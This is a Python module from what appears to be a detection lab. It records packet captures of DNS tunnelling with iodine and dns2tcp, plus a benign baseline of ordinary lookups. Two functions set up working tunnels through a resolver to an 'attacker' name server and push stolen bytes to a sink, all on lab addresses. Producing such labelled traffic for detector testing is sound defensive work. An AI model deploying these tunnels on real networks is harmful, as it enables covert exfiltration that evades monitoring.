"""The captures with DNS: tunnels of iodine and dns2tcp through a resolver, and lookups that only look like one.

Goes in: a Lab whose servers run, dnsmasq (the resolver), iodine, dns2tcp and dig. Comes out: its pcap. The law: as
in attacks.py. The client knows the resolver alone; the tunnel's end is a name server on the attacker's machine.
"""

from __future__ import annotations

import contextlib
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

from . import network
from .attacks import ATTACKER
from .lab import HERE, Alert, Lab, capture

RESOLVER, DOMAIN = "10.77.0.111", "t.far.example"
VICTIM = Alert("dns-tunnel", "client", "10.77.0.1")
INSIDE, PORT = "10.78.0.1", "9000"
ZONE = (
    "--server=/far.example/" + ATTACKER, "--address=/shop.example/10.77.0.100", "--address=/cdn.example/10.77.0.101",
    "--txt-record=shop.example,v=spf1 mx -all", "--mx-host=shop.example,mail.shop.example,10",
    f"--txt-record=key1._domainkey.shop.example,v=DKIM1; k=rsa; p={'MIIBIjANBgkqhkiG9w0BAQ' * 9}",
)  # fmt: skip


def _need(*tools: str) -> None:
    if missing := [tool for tool in tools if not shutil.which(tool)]:
        raise SystemExit(f"recording needs these programs, which are not installed: {' '.join(missing)}")


def _listens(host: str, port: str, kind: str) -> bool:
    return f":{port} " in network.run("ss", "-Hln", kind, host=host)


@contextlib.contextmanager
def _resolver() -> Iterator[None]:
    """dnsmasq, which knows a few names and asks the attacker's name server for those below far.example."""
    _need("dnsmasq", "dig")
    asked = ("dnsmasq", "-k", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--user=root", "--pid-file=",
             "--bind-interfaces", f"--listen-address={RESOLVER}", *ZONE)  # fmt: skip
    with network.started(*asked, host="server"):
        network.wait_for("the resolver", lambda: _listens("server", "53", "-u"))
        yield


@contextlib.contextmanager
def _sink(log: Path, address: str) -> Iterator[None]:
    """What the stolen bytes are sent to, on the attacker's machine."""
    with network.started(sys.executable, str(HERE / "sink.py"), address, PORT, str(log), host="attacker"):
        network.wait_for("the sink", lambda: _listens("attacker", PORT, "-t"))
        yield


def _steal(lab: Lab, log: Path, address: str, count: int) -> None:
    """Send so many bytes through the tunnel, and wait until they are there."""
    lab.client("send_bytes", address, PORT, count)
    network.wait_for("the stolen bytes", lambda: log.exists() and int(log.read_text() or 0) == count, seconds=60)


def _ordinary(lab: Lab) -> None:
    """Lookups of an ordinary minute, in part for names like hashes and long records, which come again."""
    names = lab.folder / "names"
    hashed = [f"{number * 0x9E3779B97F4A7C15 % 2**64:016x}.d{number % 3}.cdn.example" for number in range(40)]
    lines = [f"{name} {kind}" for name in hashed * 4 for kind in ("A", "AAAA")]
    lines += ["shop.example MX", "shop.example TXT", "key1._domainkey.shop.example TXT", "www.shop.example A"] * 20
    names.write_text("\n".join(lines) + "\n")
    for source in ("10.77.0.2", "10.77.0.3", "10.77.0.4"):
        network.run("dig", "-b", source, f"@{RESOLVER}", "+tries=1", "-f", str(names), host="clients", timeout=120)


@capture("iodine carries 60 KB through a resolver to a name server of the attacker, beside ordinary lookups", VICTIM)
def dns_tunnel_iodine(lab: Lab) -> None:
    _need("iodine", "iodined")
    log = lab.folder / "sink"
    served = ("iodined", "-f", "-c", "-P", "lab", "-l", ATTACKER, f"{INSIDE}/24", DOMAIN)
    asked = ("iodine", "-f", "-r", "-P", "lab", RESOLVER, DOMAIN)
    with _resolver(), network.started(*served, host="attacker"):
        network.wait_for("iodined", lambda: _listens("attacker", "53", "-u"))
        with network.recording(lab.pcap, expression="port 53"), _sink(log, INSIDE):
            _ordinary(lab)
            with network.started(*asked, host="clients"):
                reached = ("ping", "-c1", "-W1", INSIDE)
                network.wait_for(
                    "the tunnel", lambda: "1 received" in network.run(*reached, host="clients", check=False), seconds=60
                )
                _steal(lab, log, INSIDE, 60_000)


@capture("dns2tcp carries 30 KB in TXT lookups through a resolver, beside ordinary lookups", VICTIM)
def dns_tunnel_dns2tcp(lab: Lab) -> None:
    _need("dns2tcpc", "dns2tcpd")
    log, conf = lab.folder / "sink", lab.folder / "dns2tcpd.conf"
    conf.write_text(
        f"listen = {ATTACKER}\nport = 53\nuser = root\nchroot = {lab.folder}\ndomain = {DOMAIN}\n"
        f"resources = sink:127.0.0.1:{PORT}\n"
    )
    asked = ("dns2tcpc", "-r", "sink", "-z", DOMAIN, "-l", PORT, RESOLVER)
    with _resolver(), network.started("dns2tcpd", "-F", "-f", str(conf), host="attacker"):
        network.wait_for("dns2tcpd", lambda: _listens("attacker", "53", "-u"))
        with network.recording(lab.pcap, expression="port 53"), _sink(log, "127.0.0.1"):
            _ordinary(lab)
            with network.started(*asked, host="clients"):
                network.wait_for("dns2tcpc", lambda: _listens("clients", PORT, "-t"), seconds=30)
                _steal(lab, log, "127.0.0.1", 30_000)


@capture("three clients look up names of a content network, mail and keys again and again: no tunnel")
def busy_lookups(lab: Lab) -> None:
    with _resolver(), network.recording(lab.pcap, expression="port 53"):
        _ordinary(lab)
